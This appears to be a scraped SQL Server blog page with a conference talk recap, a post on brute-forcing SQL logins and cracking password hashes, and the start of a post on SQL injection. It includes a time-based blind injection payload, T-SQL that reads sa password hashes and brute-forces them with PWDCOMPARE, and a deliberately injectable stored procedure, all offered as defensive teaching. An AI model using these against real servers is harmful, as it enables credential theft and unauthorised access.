Joker's Wild

This past weekend I had a blast presenting Joker's Wild with Erin Stellato (blog|twitter), Andy Mallon (blog|twitter), and Drew Furgiuele (blog|twitter).

Watch this week's video on YouTube

Table of contents:

  • What is Joker's Wild? Watch this to witness Andy's amazing PowerPoint animation skills (0:00)
  • Bert demos SQL injection (2:25)
  • Erinrecollects desserts (9:55)
  • Andy shares an automation tip (18:55)
  • Andy explains an ANSI standard (23:10)
  • Drew describes containers (27:02)

While a video doesn't quite give you the same experience as being in the room with dozens of other data professionals laughing and shouting along, hopefully it gives you an idea.

Here's a behind-the-scenes peek at how it all came together.

A Different Kind Of Presentation

I've wanted to do a "fun" SQL Server presentation for a while; something that would be lighthearted while still delivering (some) educational value.

I ran some ideas past Erin after SQL Saturday Cleveland earlier this year. We came up with several concepts ideas we could incorporate into the presentation (thanks to PaulPopovich and Luis Gonzalez for also helping us generate a lot of these ideas) and at that point I think Erin came up with the name "Joker's Wild."

Blind Commitment

Fast forward a few months: occasionally I'd talk about the presentation idea with people but still wasn't any closer to actually making it real.

Then a few days before the SQL Saturday Columbus submission deadline, Erin reached out to ask if we were going to submit. We recruited Andy and Drew to help present and submitted an abstract:

Come one, come all to the greatest (and only) SQL Server variety show at SQL Saturday Columbus.

This session features a smattering of lightning talks covering a range of DBA- and developer-focused SQL Server topics, interspersed with interactive games to keep the speakers and audience on their toes.

Plan for plenty of sarcasm, laughs, and eyerolls in this thoughtfully structured yet highly improvised session.

We can't guarantee what you'll learn, but we do promise a great time!

*Slot machine will not generate real money for "winners"


If that abstract reads a little vague, it's because at that point we didn't know exactly what we wanted to do yet. Once our session was selected though it was time to come up with a concrete plan (big thank you to David Maxwell and Peter Shore for giving us the opportunity to try something like this).After some discussion, Erin, Andy, Drew, and I came up with the following structure:

  1. The audience will choose the lightning talk topic
  2. We will spin the "Wheel of Misfortune" to determine the presentation style, including:
    • Slides I didn't write
    • Random slide timing
    • Who has the clicker?
  3. We will play some SQL Server themed Jeopardy and Pictionary with the audience

After our first meeting Andy created the world's most versatile PowerPoint presentation that would run the show. Seriously, if you haven't watched the video above yet, go watch it - that introduction is all PowerPoint goodness created by him.

The Session and Final Thoughts

I'm incredibly happy with how it all went. The session was planned but a lot of it was still left up to a highly improvised performance. I had a lot of fun preparing and presenting, and I think the session was well received by the audience. Jeopardy and Pictionary were a lot of fun too, even though I ran out of video recording space so I couldn't include them in the video.

I hope we have another opportunity to present this session again in the future.

Thank you again David and Peter for letting us do this session as part of SQL Saturday Columbus.

Thank you to our audience for taking a risk on attending a session you didn't know much about. Also for your greatparticipation.

And thank you Erin, Andy, and Drew for helping do something fun and different.

Brute Forcing SQL Logins and Passwords

Watch this week's video on YouTube

Following up on last week's post about the different types of SQL injection, this week I want to show how injection can be used to obtain a SQL login and its password.

My goal with today's post is to show how easy it is for someone to do this to your server.  My hope is that if your security practices aren't currently the best, the least you can do is learn and follow the few simple steps at the end of this post to help protect your server.

Iterating the LoginLet's try to guess the current login by iterating over characters one at a time:


    @FirstDecimal int = ASCII('!'),
    @LastDecimal int = ASCII('~'),
    @CurrentDecimal bigint = ASCII('!'),
    @SystemUser nvarchar(128) = '',
    @CurrentPosition int = 1;

    WHILE (1=1)
        IF ASCII(substring(SYSTEM_USER,@CurrentPosition,1))=@CurrentDecimal
            SET @SystemUser = @SystemUser +CHAR(@CurrentDecimal);
            SET @CurrentPosition = @CurrentPosition + 1;
            --SELECT 'Letter found: ' + @SystemUser;

        IF @CurrentDecimal = @LastDecimal
            SET @CurrentDecimal = @FirstDecimal;
            SET @CurrentDecimal = @CurrentDecimal + 1;

        IF SYSTEM_USER = @SystemUser
            SELECT @SystemUser AS DiscoveredSystemUser;@SystemUser AS SystemUser,
        ERROR_NUMBER() AS ErrorNumber,
        ERROR_MESSAGE() AS ErrorMessage;

The key to this script is line 13 where we use SUBSTRING() to grab the first letter of SYSTEM_USER and check to see if it equals the current letter we are iterating over (if we could perform a union-based attack and return SYSTEM_USER outright, that of course would be easier).

But having the ability to execute a whole script like that to determine the login in milliseconds is a luxury.  If you are actually injecting code into a dynamic query, a more realistic looking attack might look like this (using our vulnerable stored procedure from last week's demos):

EXEC dbo.USP_GetUserFullName @Username = N'''; IF UPPER(substring(SYSTEM_USER,1,1))=''S'' WAITFOR DELAY ''00:00:05'';--';

Now if the query takes 5 second to return results, we know we found the correct first letter ("S" in this example).  We can repeat this for each subsequent character until we have the whole login.  Easy.

Note: A similar process can be performed for SQL Users as well.

Cracking the Password

Passwords are more work to obtain.  You could start guessing common passwords (eg. "admin", "ilovesql", "", etc...) and trying to use them to login, but once you deplete the easy-to-guess list, you will have to try something else.

A more systematic method requires you to first obtain the login's password hash:

      CAST([password] AS VARBINARY(MAX))
  FROM [master].[sys].[syslogins];
  WHERE loginname='sa'

Which returns:


That first column is SQL Server's hashed version of the login's password.  And while we were able to determine the SQL login character by character, we won't be able to do the same for this hashed password.

To "crack the hash", what we have to do is guess a password, hash it, and see if it is equal to the hash we found above.If it doesn't match, we guess another password, hash, check, and repeat until we find the correct password.

The simplest way to do this is to iterate over the entire password space.  The very poorly T-SQL code written below doesthat for 4 character passwords.  We basically start with guessing a password "!!!!", checking to see if it's hash matches, and if not then moving on to the next character combintation (ie. !!!#", "!!!\$", "!!!%", etc...):

    @FirstDecimal int = ASCII('!'), /*33 in decimal*/
    @LastDecimal int = ASCII('z'), /*122 in decimal*/
    @PasswordFound bit = 0,
    @Password nvarchar(128) = '',
    @HashedPassword varbinary(MAX) =0x0200C2455E03ECA51AE88CE6619644D250CD07650C8D13C6992662B7C7C1D085A9D18B3B9AF6E75D1D9DC1E17ADC23C48BB68927A4C670026039BFE948FB4FF367FBDC08365F
    @DecimalDifference int = @LastDecimal - @FirstDecimal,
    @Char1 int = @FirstDecimal,
    @Char2 int = @FirstDecimal,
    @Char3 int = @FirstDecimal,
    @Char4 int = @FirstDecimal;

    WHILE (@Char1 <= @LastDecimal AND @PasswordFound = 0)
        WHILE (@Char2 <= @LastDecimal AND @PasswordFound = 0)
            WHILE (@Char3 <= @LastDecimal AND @PasswordFound = 0)
                WHILE (@Char4 <= @LastDecimal AND @PasswordFound = 0)
                    SET @Password = CHAR(@Char1) + CHAR(@Char2) + CHAR(@Char3) + CHAR(@Char4)
                    /* for debugging IF @Password = 'admin'  COLLATE Latin1_General_CS_AS */ /*make sure we are doing a case sensitive check */
                    IF PWDCOMPARE(@Password,@HashedPassword) = 1SELECT @Password;
                        SET @PasswordFound = 1;
                    SET @Char4 = @Char4 + 1;
                SET @Char4 = @FirstDecimal;
                SET @Char3 = @Char3 + 1;
            SET @Char4 = @FirstDecimal;
            SET @Char3 = @FirstDecimal;
            SET @Char2 = @Char2 + 1;
        SET @Char4 = @FirstDecimal;
        SET @Char3 = @FirstDecimal;
        SET @Char2 = @FirstDecimal;
        SET @Char1 = @Char1 + 1;
        @Password AS Password,
        ERROR_NUMBER() AS ErrorNumber,
        ERROR_MESSAGE() AS ErrorMessage;

After about 9 minutes, SQL Server returns my very easy to guess sa password in clear text:


At this point you might be thinking, "9 minutes for a 4 character password!  Doesn't that mean it would take years to crack an 8 character, or 12 character password?"

Yes and no.  T-SQL is not the right tool for the job here.  A better tool would be something that is optimized for hash checking, something like hashcat.

Hashcat performs the same type of looping logic to check an entire address space for a matching hash, but it does so very quickly with lots of optimizations (word lists, prefix/suffix mutations, etc..).  It also multithreads the process and can make use of graphics cards to perform computations even faster.

I don't want to turn this into a "step by step how to use hashcat to crack your SQL logins" post, but be aware that doing so is fairly straightforward.  Also know that GPU optimized cloud machines are easily available, and running hashcat on them easily gets you into the 470 million hashes/second range.

With some back of the napkin calculations, that means your completely random 8 character password would take at most:

(((((96 character subset) ^ (8 character password)) / (470,000,000))/60- minutes)/24 hours) =~10658 days

Now that may seem like a long time, but remember, that's one machine doingthe processing over the entire character space.

The cloud is easily abused for solving performance problems by spinning up additional hardware.  The same tools you have to run your company's cloud workloads are available to criminals as well.

And hardware is always improving.  Could new hardware come out in the next couple years that will speed this up even more?  Almost certainly.

Finally this is the longest possible time if would take - if your password isn't completely random (uses dictionary words) or the hacker knows something about your password schema (all passwords use only letters and numbers), then it's pretty much game over.

Don't Let This Happen To You

Hopefully you are using at least 8 character, random passwords with a full subset of upper and lowercase letters, numbers, and symbols.  That should be the minimum you should be doing today, knowing full well that this is already probably inadequate, if not today then in the very near future.

If you aren't using long passwords, then stop reading right now and go figure out how to change this right away.  SQL Server allows you to use passwords up to 128 characters long - make use of  all of those characters!

In addition to using long, random passwords, follow the best practices mentioned in last week's post as well: use the principle of least privilege to restrict as much access to your logins as possible, and prevent SQLinjection from allowing important information from leaving your server in the first place.

4 SQL Injection Techniques For Stealing Data

Watch this week's video on YouTube

I'm not advocating that you start using SQL injection to start stealing other people's data.

However, I do think that you should familiarize yourself with the various SQL injection techniques so that you will be better prepared to prevent them from happening in your own queries.

The rest of this post will go over four common techniques used for extracting information from SQLServer, as well as simple solutions to prevent them.We'll be looking at all of these techniques directly in SQL Server, but be aware that all of this information is potentially obtainable from an app front-end as well.

UNION-Based Attacks

Perhaps the easiest way for a hacker to retrieve additional data from an injection vulnerable query is through a UNION-based attack.

A UNION-based injection attack adds a UNION or UNION ALL statement to your original stored procedure query, effectively returning any data requested by the second query.

Let's say we have a stored procedure that returns user information for the @Username value passed in:

-- Create our sample table data
    Id int IDENTITY(1,1),
    Username NVARCHAR(100),
    FirstName NVARCHAR(100),
    LastName NVARCHAR(100)
INSERT INTO dbo.Users VALUES ('BDubs','Bert','Wagner');
INSERT INTO dbo.Users VALUES ('JaneDough', 'Jane', 'Doe');

SELECT * FROM dbo.Users;

-- Create our procedure to retrieve name information
    @Username NVARCHAR(100)
            Username = ''' + @UserName + N'''';

This query is poorly written and easily injectable:

-- No injection
EXEC dbo.USP_GetUserFullName @Username = N'BDubs'

-- Injection, returns all rows
